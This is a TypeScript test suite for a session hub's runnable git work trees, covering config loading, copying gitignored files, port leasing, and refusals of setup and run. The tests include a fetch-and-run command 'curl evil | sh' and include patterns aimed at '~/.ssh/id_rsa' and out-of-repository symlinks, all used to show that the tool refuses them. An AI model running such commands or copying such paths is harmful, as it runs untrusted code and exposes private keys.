/**
 * Runnable work trees against real git repositories (docs/worktrees.md#runnable-work-trees): `teamhub.json` and
 * `.worktreeinclude` read from the base branch at spawn, the gitignored files copied, the ports leased and released,
 * and the refusals of setup and run. Every refusal is proved to have written nothing: no row, no event, no work tree
 * dir, no branch, no port lease.
 */
import fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ForkInput, SpawnInput, TeamSpawnInput } from "../../../lib/api/sessions.ts";
import { UpdateTeamSettingsInput } from "../../../lib/api/team-settings.ts";
import { OutputInput, RunInput, RunnableInput } from "../../../lib/api/runnable.ts";
import { isEvent } from "../../../lib/api/events.ts";
import { OPERATOR, type Principal } from "../principal.ts";
import { parseOrThrow } from "../zod-errors.ts";
import { deleteSession } from "../sessions/control.service.ts";
import { findSession } from "../sessions/sessions.repo.ts";
import { finishTurn, markLaunched, recordExit, startNextTurn } from "../sessions/runtime.ts";
import { forkSession, spawnSession, teamSpawn } from "../sessions/spawn.service.ts";
import type { SpawnDefaults } from "../sessions/spawn-authority.ts";
import { updateTeamSettings } from "../teams/settings.ts";
import { issues, refusal, refusedWithoutWriting } from "../../testing/refusals.ts";
import { tempHub, type TempHub } from "../../testing/temp-hub.ts";
import { sql } from "../../db/sql.ts";
import type { PortLeaseRow } from "../../db/rows.ts";
import { tempDir } from "../../testing/temp-dir.ts";
import { workTree, type WorkTree } from "../../testing/work-tree.ts";
import { discardSession } from "./merge.service.ts";
import { api } from "../../../lib/api/endpoints/index.ts";
import { createServices } from "../../services.ts";
import { DEFAULT_PORT_RANGE, parsePortRange, portEnv } from "./ports.ts";
import { appendOutput, runStarted, setupFinished, setupStarted } from "./runnable-records.ts";
import { processOutput, requestRun, rerunSetup, runnableState } from "./runnable.service.ts";
import { worktreeOfSession } from "./worktrees.repo.ts";
import { testHubInfo, TEST_RUNTIMES } from "../../testing/operations.ts";

let hub: TempHub;
let repo: WorkTree;
let defaults: SpawnDefaults & { worktreesDir: string };

beforeEach(async () => {
  hub = await tempHub();
  repo = workTree();
  repo.git("checkout", "-q", "-b", "main");
  repo.write("app.txt", "app\n");
  repo.write(".gitignore", ".env\n.env.local\nsecret.txt\nconfig/local.json\nnode_modules/\n");
  repo.commit("start");
  defaults = { workDir: repo.dir, sandbox: "bubblewrap", maxLive: 0, runtimes: TEST_RUNTIMES, worktreesDir: path.join(hub.dir, "worktrees") };
  // Members are spawned throughout a test, on a loaded machine more than a spawn batch apart: no phase gates here.
  await updateTeamSettings(hub, OPERATOR, { team: "t", gateEnforcement: "off" });
});
afterEach(() => hub.close());

const member = (name: string, extra: Record<string, unknown> = {}) =>
  teamSpawn(hub, OPERATOR, parseOrThrow(TeamSpawnInput, { team: "t", name, ...extra }), defaults);
const spawn = (input: Record<string, unknown>, by: Principal = OPERATOR) => spawnSession(hub, by, parseOrThrow(SpawnInput, { team: "t", ...input }), defaults);
const runnable = (name: string, by: Principal = OPERATOR) => runnableState(hub, by, parseOrThrow(RunnableInput, { name }));
const setup = (name: string, by: Principal = OPERATOR) => rerunSetup(hub, by, parseOrThrow(RunnableInput, { name }), 0);
const run = (name: string, by: Principal = OPERATOR, stop = false) => requestRun(hub, by, parseOrThrow(RunInput, { name, stop }));
const asMember = (name: string): Principal => ({ kind: "member", name });
const pk = async (name: string) => (await hub.db.read((s) => findSession(s, name)))!.pk;
const treeOf = async (name: string) => (await hub.db.read(async (s) => worktreeOfSession(s, (await findSession(s, name))!.pk)))!;
const ended = async (name: string, status: "stopped" | "failed" = "stopped") =>
  recordExit(hub, await pk(name), { status, reason: status, code: 0, signal: null, error: null, stderrTail: "" });
const leases = () => hub.db.read((s) => s.all<Pick<PortLeaseRow, "port" | "session">>(sql`SELECT "port","session" FROM "PortLease" ORDER BY "port"`));

/** Commits `teamhub.json` (text as given, so invalid JSON can be written) on the checked-out branch. */
const configure = (config: unknown) => {
  repo.write("teamhub.json", typeof config === "string" ? config : JSON.stringify(config));
  repo.commit("teamhub.json");
};
const read = (...parts: string[]) => fs.readFileSync(path.join(...parts), "utf8");
const trees = () => (fs.existsSync(defaults.worktreesDir) ? fs.readdirSync(defaults.worktreesDir).sort() : []);
const repoState = () => ({
  refs: repo.git("for-each-ref", "--format=%(refname) %(objectname)"),
  status: repo.status(),
  worktrees: repo.git("worktree", "list", "--porcelain"),
});

/** Refused, and nothing written anywhere: no row or event, no work tree dir, no branch, no lease (a table). */
async function refusedCleanly(call: () => Promise<unknown>) {
  const before = { repo: repoState(), trees: trees() };
  const e = await refusedWithoutWriting(hub, call);
  expect({ repo: repoState(), trees: trees() }).toEqual(before);
  return e;
}

describe("teamhub.json", () => {
  it("is read from the base branch's commit at spawn and recorded on the work tree, with its defaults filled in", async () => {
    configure({ worktree: { setup: "npm ci", run: "npm start", archive: "rm -rf tmp", ports: 2, setupTimeoutMs: 5000 } });
    // What the main work tree has but did not commit is not the base branch's: it does not count.
    repo.write("teamhub.json", JSON.stringify({ worktree: { setup: "curl evil | sh" } }));
    await member("a");
    const a = await runnable("a");
    expect(a.config).toEqual({ source: "teamhub.json", setup: "npm ci", run: "npm start", archive: "rm -rf tmp", ports: 2, setupTimeoutMs: 5000 });
    expect(a.setup).toMatchObject({ status: "pending", exitCode: null, error: null });
    expect(a.run).toMatchObject({ status: null, url: null });
    expect(a.ports).toHaveLength(2);

    // Another base branch, another config: its own tip is what counts.
    repo.git("checkout", "-q", "-b", "release");
    configure({ worktree: { run: "node serve.js" } });
    repo.git("checkout", "-q", "main");
    await spawn({ name: "rel", isolation: "worktree", base: "release" });
    expect((await runnable("rel")).config).toEqual({
      source: "teamhub.json",
      setup: null,
      run: "node serve.js",
      archive: null,
      ports: 1,
      setupTimeoutMs: 600_000,
    });
    // No setup: nothing is pending, the session starts as before.
    expect((await runnable("rel")).setup.status).toBeNull();
  });

  it("falls back to the team's `worktree` setting where the repository has none, and the repository's file wins", async () => {
    await member("bare");
    expect(await runnable("bare")).toMatchObject({ config: null, included: [], setup: { status: null } });
    // Invalid settings never reach a spawn: the setting is checked like the file, naming the field.
    const bad = UpdateTeamSettingsInput.safeParse({ team: "t", worktree: { ports: -1 } });
    expect(bad.success).toBe(false);
    expect(bad.error!.issues[0].path).toEqual(["worktree", "ports"]);
    await updateTeamSettings(hub, OPERATOR, parseOrThrow(UpdateTeamSettingsInput, { team: "t", worktree: { setup: "make deps", ports: 3 } }));
    await member("a");
    expect(await runnable("a")).toMatchObject({
      config: { source: "team settings", setup: "make deps", run: null, ports: 3 },
      setup: { status: "pending" },
      ports: [expect.any(Number), expect.any(Number), expect.any(Number)],
    });
    // What is recorded at spawn stays: the first member's config did not change with the setting.
    expect((await runnable("bare")).config).toBeNull();
    configure({ worktree: { run: "npm start" } });
    await member("b");
    expect((await runnable("b")).config).toMatchObject({ source: "teamhub.json", setup: null, run: "npm start", ports: 1 });
  });

  it.each([
    ["an unknown field", { worktree: { setup: "npm ci", stup: "x" } }, "teamhub.json.worktree", "unrecognized_keys", "stup"],
    ["an unknown top-level key", { wroktree: { setup: "npm ci" } }, "teamhub.json", "unrecognized_keys", "wroktree"],
    ["negative ports", { worktree: { ports: -1 } }, "teamhub.json.worktree.ports", "too_small", "at least 0"],
    ["too many ports", { worktree: { ports: 17 } }, "teamhub.json.worktree.ports", "too_big", "at most 16"],
    ["a fractional port count", { worktree: { ports: 1.5 } }, "teamhub.json.worktree.ports", "invalid_type", "whole number"],
    ["setupTimeoutMs below one second", { worktree: { setupTimeoutMs: 500 } }, "teamhub.json.worktree.setupTimeoutMs", "too_small", "at least 1000"],
    ["setupTimeoutMs above two hours", { worktree: { setupTimeoutMs: 3 * 3600_000 } }, "teamhub.json.worktree.setupTimeoutMs", "too_big", "at most"],
    ["an empty command", { worktree: { setup: "  " } }, "teamhub.json.worktree.setup", "too_small", "must not be empty"],
    ["invalid JSON", '{"worktree": {"setup": "npm ci",', "teamhub.json", "json", "not valid JSON"],
  ])("with %s refuses the spawn naming the field, writing nothing", async (_, config, field, rule, says) => {
    configure(config);
    const e = await refusedCleanly(() => member("a"));
    expect(e.code).toBe("invalid_input");
    expect(issues(e)).toHaveLength(1);
    expect(issues(e)[0]).toMatchObject({ field, rule });
    expect(issues(e)[0].message).toContain(says);
    expect(e.message).toContain(field);
    // The same through a plain spawn that asks for a work tree; a session sharing the work dir runs none of it.
    expect(issues(await refusedCleanly(() => spawn({ name: "iso", isolation: "worktree" })))[0]).toMatchObject({ field, rule });
    expect((await spawn({ name: "plain" })).worktree).toBeNull();
  });
});

describe(".worktreeinclude", () => {
  beforeEach(() => {
    repo.write("settings.json", "committed\n");
    repo.write(".worktreeinclude", "# what a work tree needs\n.env\nconfig/local.json\n/settings.json\nnotes.md\n.env.local\n");
    repo.commit("include");
    // The main work tree: listed and ignored files, an ignored one not listed, a listed one only untracked, a tracked one changed.
    repo.write(".env", "KEY=main\n");
    fs.chmodSync(path.join(repo.dir, ".env"), 0o600);
    fs.mkdirSync(path.join(repo.dir, "config"));
    repo.write("config/local.json", '{"db":"local"}\n');
    fs.symlinkSync("config/local.json", path.join(repo.dir, ".env.local"));
    repo.write("secret.txt", "SECRET=unlisted\n");
    fs.mkdirSync(path.join(repo.dir, "node_modules", "dep"), { recursive: true });
    repo.write("node_modules/dep/index.js", "module.exports = 1;\n");
    repo.write("notes.md", "unfinished work\n");
    repo.write("settings.json", "changed in main\n");
  });

  it("copies the listed gitignored files into the new work tree and nothing else; the main work tree stays as it was", async () => {
    const before = { status: repo.status(), main: repo.git("rev-parse", "main") };
    const a = await member("a");
    const tree = a.worktree!.path!;
    expect(read(tree, ".env")).toBe("KEY=main\n");
    expect(fs.statSync(path.join(tree, ".env")).mode & 0o777).toBe(0o600);
    expect(read(tree, "config", "local.json")).toBe('{"db":"local"}\n');
    // A link inside the repository is copied as the file it leads to.
    expect(fs.lstatSync(path.join(tree, ".env.local")).isFile()).toBe(true);
    expect(read(tree, ".env.local")).toBe('{"db":"local"}\n');
    // Ignored but not listed, listed but merely untracked (someone's unfinished work): absent.
    for (const absent of ["secret.txt", "node_modules", "notes.md"]) expect(fs.existsSync(path.join(tree, absent)), absent).toBe(false);
    // Tracked and listed: the tracked file as committed, not the main work tree's change.
    expect(read(tree, "settings.json")).toBe("committed\n");
    expect((await runnable("a")).included).toEqual([".env", ".env.local", "config/local.json"]);
    expect({ status: repo.status(), main: repo.git("rev-parse", "main") }).toEqual(before);
    expect(read(repo.dir, "settings.json")).toBe("changed in main\n");
    expect(read(repo.dir, ".env")).toBe("KEY=main\n");
  });

  it("copies every file of a listed ignored dir, and refuses a pattern that sweeps in thousands, with nothing made", async () => {
    repo.write(".gitignore", ".env\n.env.local\nsecret.txt\nconfig/local.json\nnode_modules/\ncerts/\n");
    repo.write(".worktreeinclude", "certs/\n");
    repo.commit("certs");
    fs.mkdirSync(path.join(repo.dir, "certs", "dev"), { recursive: true });
    repo.write("certs/a.pem", "A\n");
    repo.write("certs/dev/b.pem", "B\n");
    const a = await member("a");
    expect(read(a.worktree!.path!, "certs", "dev", "b.pem")).toBe("B\n");
    expect((await runnable("a")).included).toEqual(["certs/a.pem", "certs/dev/b.pem"]);
    // A dependency tree listed by mistake: refused, naming the file and the limit.
    for (let i = 0; i < 5001; i++) fs.writeFileSync(path.join(repo.dir, "node_modules", "dep", `f${i}.js`), "");
    repo.write(".worktreeinclude", "certs/\nnode_modules/\n");
    repo.commit("too much");
    const e = await refusedCleanly(() => member("b"));
    expect(issues(e)).toMatchObject([{ field: ".worktreeinclude", rule: "max_files" }]);
    expect(e.message).toContain("at most 5000");
  });

  it("copies them into a fork's work tree too, from the main work tree", async () => {
    const a = await member("a", { prompt: "start" });
    await markLaunched(hub, await pk("a"), { pid: 4242, mode: "fresh", args: [], sandbox: "bubblewrap", dir: "/nonexistent/session" });
    const turn = (await startNextTurn(hub, await pk("a")))!;
    await finishTurn(hub, await pk("a"), {
      interactionId: turn.id,
      status: "completed",
      isError: false,
      subtype: "success",
      response: "ok",
      error: null,
      costDelta: 0,
      turns: 1,
      durationMs: 5,
      toolsUsed: [],
      permissionDenials: [],
      empty: false,
    });
    fs.writeFileSync(path.join(a.worktree!.path!, ".env"), "KEY=changed by a\n");
    fs.writeFileSync(path.join(a.worktree!.path!, "app.txt"), "a's work\n");
    const kid = await forkSession(hub, OPERATOR, parseOrThrow(ForkInput, { name: "a", newName: "kid" }), defaults);
    const tree = kid.worktree!.path!;
    expect(tree).not.toBe(a.worktree!.path);
    expect(read(tree, "app.txt")).toBe("a's work\n");
    expect(read(tree, ".env")).toBe("KEY=main\n");
    expect(fs.existsSync(path.join(tree, "secret.txt"))).toBe(false);
    const [state, parent] = [await runnable("kid"), await runnable("a")];
    expect(state.included).toEqual([".env", ".env.local", "config/local.json"]);
    expect(state.ports).toHaveLength(1);
    expect(state.ports[0]).not.toBe(parent.ports[0]);
    // A fork reads the base branch anew: a bad config there refuses it, with nothing made.
    configure({ worktree: { ports: -2 } });
    const e = await refusedCleanly(() => forkSession(hub, OPERATOR, parseOrThrow(ForkInput, { name: "a", newName: "kid2" }), defaults));
    expect(issues(e)).toMatchObject([{ field: "teamhub.json.worktree.ports", rule: "too_small" }]);
  });

  it.each([
    ["../outside.env", 2],
    ["config/../../outside.env", 2],
    ["~/.ssh/id_rsa", 2],
    ["!../outside.env", 2],
  ])("refuses the pattern %s, which leaves the repository, naming its line; nothing is made", async (pattern, line) => {
    repo.write(".worktreeinclude", `.env\n${pattern}\n`);
    repo.commit("bad include");
    const e = await refusedCleanly(() => member("b"));
    expect(e.code).toBe("invalid_input");
    expect(issues(e)).toMatchObject([{ field: `.worktreeinclude:${line}`, rule: "inside_repository" }]);
    expect(e.message).toContain(pattern);
  });

  it("never writes through a link the base branch tracks where a listed file goes, nor over a tracked file", async () => {
    const outside = tempDir("include-victim");
    fs.writeFileSync(path.join(outside, "victim"), "the user's own file\n");
    fs.mkdirSync(path.join(outside, "dir"));
    // A branch (some session's work, merged) tracks links where the main work tree has listed ignored files, and a
    // file the main work tree ignores.
    repo.git("checkout", "-q", "-b", "release");
    fs.rmSync(path.join(repo.dir, ".env"));
    fs.rmSync(path.join(repo.dir, "config"), { recursive: true });
    fs.symlinkSync(path.join(outside, "victim"), path.join(repo.dir, ".env"));
    fs.symlinkSync(path.join(outside, "dir"), path.join(repo.dir, "config"));
    repo.write("settings.json", "tracked on release\n");
    repo.git("add", "-f", ".env", "config", "settings.json");
    repo.git("commit", "-q", "-m", "links");
    repo.git("checkout", "-q", "-b", "release2");
    repo.git("rm", "-q", "config");
    repo.commit("no config link");
    repo.git("checkout", "-q", "-f", "main");
    repo.write(".env", "KEY=main\n");
    fs.mkdirSync(path.join(repo.dir, "config"));
    repo.write("config/local.json", '{"db":"local"}\n');
    repo.git("rm", "-q", "--cached", "settings.json");
    repo.write(".gitignore", ".env\n.env.local\nsecret.txt\nconfig/local.json\nnode_modules/\nsettings.json\n");
    repo.commit("settings.json is local now");
    // The listed config/local.json would go through the tracked link `config`: refused, naming it, nothing made.
    const e = await refusedCleanly(() => member("r", { base: "release" }));
    expect(issues(e)).toMatchObject([{ field: ".worktreeinclude", rule: "inside_repository", received: "config/local.json" }]);
    expect(e.message).toContain("would be written through 'config'");
    expect(fs.readdirSync(path.join(outside, "dir"))).toEqual([]);
    // Without that link: the tracked link `.env` and the tracked settings.json stay as the branch has them.
    await member("r", { base: "release2" });
    const tree = (await treeOf("r")).path!;
    expect(fs.readlinkSync(path.join(tree, ".env"))).toBe(path.join(outside, "victim"));
    expect(read(outside, "victim")).toBe("the user's own file\n");
    expect(read(tree, "settings.json")).toBe("tracked on release\n");
    expect(read(tree, "config", "local.json")).toBe('{"db":"local"}\n');
    expect((await runnable("r")).included).toEqual([".env.local", "config/local.json"]);
  });

  it("refuses a listed file that is a link leading out of the repository, with nothing copied or made", async () => {
    const outside = tempDir("include-outside");
    fs.writeFileSync(path.join(outside, "id_rsa"), "SECRET=outside\n");
    fs.rmSync(path.join(repo.dir, ".env"));
    fs.symlinkSync(path.join(outside, "id_rsa"), path.join(repo.dir, ".env"));
    const e = await refusedCleanly(() => member("b"));
    expect(e.code).toBe("invalid_input");
    expect(issues(e)).toMatchObject([{ field: ".worktreeinclude", rule: "inside_repository" }]);
    expect(e.message).toContain("'.env' leads out of the repository");
    expect(fs.existsSync(defaults.worktreesDir) ? fs.readdirSync(defaults.worktreesDir) : []).toEqual([]);
    // A listed, ignored link to a directory out of the repository is refused the same way.
    fs.rmSync(path.join(repo.dir, ".env"));
    fs.mkdirSync(path.join(outside, "keys"));
    fs.writeFileSync(path.join(outside, "keys", "id_rsa"), "SECRET=outside\n");
    fs.symlinkSync(path.join(outside, "keys"), path.join(repo.dir, "keys"));
    repo.write(".gitignore", ".env\n.env.local\nsecret.txt\nconfig/local.json\nnode_modules/\n/keys\n");
    repo.write(".worktreeinclude", "keys\n");
    repo.commit("include the keys");
    const e2 = await refusedCleanly(() => member("c"));
    expect(issues(e2)).toMatchObject([{ field: ".worktreeinclude", rule: "inside_repository" }]);
    expect(e2.message).toContain("'keys' leads out of the repository");
  });
});

describe("ports", () => {
  it("gives each work-tree session its own ports (`ports` of them), none to a shared one, and PORT/TEAMHUB_PORTS from them", async () => {
    defaults.portRange = { first: 47000, last: 47009 };
    await member("a");
    await member("b");
    const [a, b] = [(await runnable("a")).ports, (await runnable("b")).ports];
    expect(a).toHaveLength(1);
    expect(b).toHaveLength(1);
    expect(a[0]).not.toBe(b[0]);
    configure({ worktree: { ports: 2 } });
    await member("c");
    const c = (await runnable("c")).ports;
    expect(c).toHaveLength(2);
    expect(new Set([...a, ...b, ...c]).size).toBe(4);
    expect([...a, ...b, ...c].every((p) => p >= 47000 && p <= 47009)).toBe(true);
    expect(portEnv(c)).toEqual({ PORT: String(c[0]), TEAMHUB_PORTS: `${c[0]},${c[1]}` });
    configure({ worktree: { ports: 0 } });
    await member("none");
    expect((await runnable("none")).ports).toEqual([]);
    expect(portEnv([])).toEqual({});
    await spawn({ name: "plain" });
    expect((await leases()).map((l) => l.session).sort()).toEqual(["a", "b", "c", "c"]);
  });

  it("releases them on delete and on discard, and hands them out again", async () => {
    defaults.portRange = { first: 47000, last: 47003 };
    configure({ worktree: { ports: 2 } });
    await member("a");
    await member("b");
    const [a, b] = [(await runnable("a")).ports, (await runnable("b")).ports];
    expect([...a, ...b].sort()).toEqual([47000, 47001, 47002, 47003]);
    await deleteSession(hub, OPERATOR, { name: "a" });
    expect((await leases()).map((l) => l.port)).toEqual(b);
    await member("c");
    expect((await runnable("c")).ports).toEqual(a);
    await ended("b");
    await discardSession(hub, OPERATOR, { name: "b", confirm: true });
    expect((await leases()).map((l) => l.session)).toEqual(["c", "c"]);
    await member("d");
    expect((await runnable("d")).ports).toEqual(b);
  });

  it("refuses a spawn when the range has too few free, naming `ports`, with nothing written; one freed, it goes", async () => {
    defaults.portRange = { first: 47000, last: 47002 };
    configure({ worktree: { ports: 2 } });
    await member("a");
    const e = await refusedCleanly(() => member("b"));
    expect(e.code).toBe("precondition_failed");
    expect(e.details).toMatchObject({ field: "ports", rule: "ports_free", range: "47000-47002" });
    expect(e.message).toMatch(/^ports: /);
    expect(e.message).toContain("TEAMHUB_PORT_RANGE");
    expect(repo.git("branch", "--list", "teamhub/t/b")).toBe("");
    await deleteSession(hub, OPERATOR, { name: "a" });
    await member("b");
    expect((await runnable("b")).ports).toEqual([47000, 47001]);
  });

  it("never gives one port to two sessions spawned at once", async () => {
    defaults.portRange = { first: 47000, last: 47000 };
    const results = await Promise.allSettled([member("a"), member("b")]);
    expect(results.filter((r) => r.status === "fulfilled")).toHaveLength(1);
    const refused = results.flatMap((r) => (r.status === "rejected" ? [r.reason as { details: Record<string, unknown> }] : []));
    expect(refused).toMatchObject([{ details: { field: "ports", rule: "ports_free" } }]);
    expect(await leases()).toHaveLength(1);
    // The refused one left no work tree behind.
    expect(trees()).toHaveLength(1);
    expect(repo.git("branch", "--list", "teamhub/*").split("\n")).toHaveLength(1);
  });
});

describe("the port range", () => {
  it("is TEAMHUB_PORT_RANGE, by default above the privileged ports and below those of outgoing connections; anything else is a clear error", () => {
    expect(parsePortRange(undefined)).toEqual(DEFAULT_PORT_RANGE);
    expect(DEFAULT_PORT_RANGE.first).toBeGreaterThanOrEqual(1024);
    // An outgoing connection may hold any port of this machine's ephemeral range as its local port, and a run command
    // given that port could not listen on it.
    const [ephemeralFirst] = fs.readFileSync("/proc/sys/net/ipv4/ip_local_port_range", "utf8").trim().split(/\s+/).map(Number);
    expect(DEFAULT_PORT_RANGE.last).toBeLessThan(Math.min(ephemeralFirst, 49152));
    expect(parsePortRange(" 47000-47010 ")).toEqual({ first: 47000, last: 47010 });
    for (const bad of ["80-90", "5000-4000", "47000", "47000-70000", "a-b"]) expect(() => parsePortRange(bad), bad).toThrow(/^TEAMHUB_PORT_RANGE: /);
  });

  it("is what the hub's services lease from, and what they refuse on when it is used up", async () => {
    const s = createServices(hub, testHubInfo(hub.dir, { sessionWorkDir: repo.dir, sandbox: "bubblewrap", portRange: { first: 47500, last: 47500 } }));
    await s.sessions.teamSpawn(OPERATOR, parseOrThrow(TeamSpawnInput, { team: "t", name: "a" }));
    const state = await s.worktrees.runnable(OPERATOR, parseOrThrow(RunnableInput, { name: "a" }));
    expect(state.ports).toEqual([47500]);
    // As the wire carries it.
    expect(api.worktrees.runnable.output.parse(JSON.parse(JSON.stringify(state)))).toEqual(state);
    const e = await refusedCleanly(() => s.sessions.teamSpawn(OPERATOR, parseOrThrow(TeamSpawnInput, { team: "t", name: "b" })));
    expect(e.details).toMatchObject({ field: "ports", range: "47500-47500" });
  });
});

describe("setup and run requests", () => {
  beforeEach(() => configure({ worktree: { setup: "exit 3" } }));

  it("refuses a session without a work tree, a live one's setup, a run without a run command or before setup succeeded", async () => {
    await member("norun");
    configure({ worktree: { setup: "exit 3", run: "node serve.js" } });
    await member("a");
    await spawn({ name: "plain" });
    for (const call of [() => setup("plain"), () => run("plain"), () => run("plain", OPERATOR, true), () => runnable("plain")]) {
      const e = await refusedCleanly(call);
      expect(e).toMatchObject({ code: "precondition_failed", details: { field: "name", rule: "has_worktree" } });
      expect(e.message).toContain("no work tree of its own");
    }
    // A live session's process started after its setup: setting it up again needs it stopped.
    expect((await refusedCleanly(() => setup("a"))).details).toMatchObject({ field: "name", current: "starting", operation: "setup" });
    expect((await refusedCleanly(() => run("norun"))).details).toMatchObject({ field: "name", rule: "has_run" });
    // Pending, then failed: run waits for a setup that succeeded.
    expect((await refusedCleanly(() => run("a"))).details).toMatchObject({ field: "name", rule: "setup_succeeded" });
    await setupStarted(hub, await treeOf("a"), "exit 3", "teamhub.json");
    await setupFinished(hub, await treeOf("a"), { status: "failed", exitCode: 3, durationMs: 5, error: "setup failed (exit 3)" });
    expect((await refusedCleanly(() => run("a"))).message).toContain("is failed; run starts after a successful setup");
    expect((await refusedCleanly(() => run("a", OPERATOR, true))).code).toBe("illegal_transition");
  });

  it("refuses a member that does not own the session: setup, run, stop and reading it change nothing", async () => {
    configure({ worktree: { setup: "exit 3", run: "node serve.js" } });
    await member("a");
    await member("b");
    const w = await treeOf("a");
    await appendOutput(hub, w.id, "setup", "SECRET=in the output\n");
    await ended("a", "failed");
    const b = asMember("b");
    for (const call of [
      () => setup("a", b),
      () => run("a", b),
      () => run("a", b, true),
      () => runnable("a", b),
      () => processOutput(hub, b, parseOrThrow(OutputInput, { name: "a" })),
    ]) {
      const e = await refusedCleanly(call);
      expect(e.code).toBe("forbidden");
    }
    // The session itself may: it owns itself.
    expect((await runnable("a", asMember("a"))).name).toBe("a");
    expect((await processOutput(hub, asMember("a"), parseOrThrow(OutputInput, { name: "a" }))).pieces.map((p) => p.text)).toEqual(["SECRET=in the output\n"]);
  });

  it("sets up again with the base branch's config, never the session's own, and resumes the session", async () => {
    const a = await member("a", { prompt: "work" });
    await setupStarted(hub, await treeOf("a"), "exit 3", "teamhub.json");
    await setupFinished(hub, await treeOf("a"), { status: "failed", exitCode: 3, durationMs: 5, error: "setup failed (exit 3)" });
    await ended("a", "failed");
    // The session commits its own teamhub.json on its branch: that runs for nobody.
    fs.writeFileSync(path.join(a.worktree!.path!, "teamhub.json"), JSON.stringify({ worktree: { setup: "curl evil | sh", run: "evil" } }));
    repo.git("-C", a.worktree!.path!, "add", "teamhub.json");
    repo.git("-C", a.worktree!.path!, "commit", "-q", "-m", "mine");
    // Nothing configures a setup on the base branch now: refused, nothing written.
    configure({ worktree: { run: "node serve.js" } });
    expect((await refusedCleanly(() => setup("a"))).details).toMatchObject({ field: "name", rule: "has_setup" });
    // Fixed on the base branch: set up again, by the session itself.
    configure({ worktree: { setup: "npm ci", run: "node serve.js" } });
    const events = hub.events.length;
    const state = await setup("a", asMember("a"));
    expect(state.config).toMatchObject({ source: "teamhub.json", setup: "npm ci", run: "node serve.js" });
    expect(state.setup).toMatchObject({ status: "pending", exitCode: null, error: null });
    const status = (await hub.db.read((s) => findSession(s, "a")))!.status;
    expect(status).toBe("starting");
    expect(hub.events.slice(events).filter(isEvent("worktree.setup_requested"))).toMatchObject([{ payload: { name: "a", by: "a" } }]);
    // A new member gets the base branch's config too, not a's.
    await member("b");
    expect((await runnable("b")).config).toMatchObject({ setup: "npm ci", run: "node serve.js" });
  });

  it("asks the supervisor to start and stop the run command once setup succeeded and while the session is live", async () => {
    configure({ worktree: { setup: "exit 0", run: "node serve.js", ports: 1 } });
    await member("a");
    const w = await treeOf("a");
    await setupStarted(hub, w, "exit 0", "teamhub.json");
    await setupFinished(hub, w, { status: "succeeded", exitCode: 0, durationMs: 5, error: null });
    await markLaunched(hub, await pk("a"), { pid: 4242, mode: "fresh", args: [], sandbox: "bubblewrap", dir: "/nonexistent/session" });
    let events = hub.events.length;
    await run("a", asMember("a"));
    expect(hub.events.slice(events).map((e) => e.type)).toEqual(["worktree.run_requested"]);
    const [port] = (await runnable("a")).ports;
    await runStarted(hub, w, "node serve.js", port);
    expect((await runnable("a")).run).toMatchObject({ status: "running", url: `http://localhost:${port}` });
    expect((await refusedCleanly(() => run("a"))).code).toBe("conflict");
    events = hub.events.length;
    await run("a", OPERATOR, true);
    expect(hub.events.slice(events).map((e) => e.type)).toEqual(["worktree.run_stop_requested"]);
    // Ended, the session's run command does not start.
    await ended("a");
    expect((await refusal(run("a"))).details).toMatchObject({ field: "name", operation: "run", current: "stopped" });
  });
});
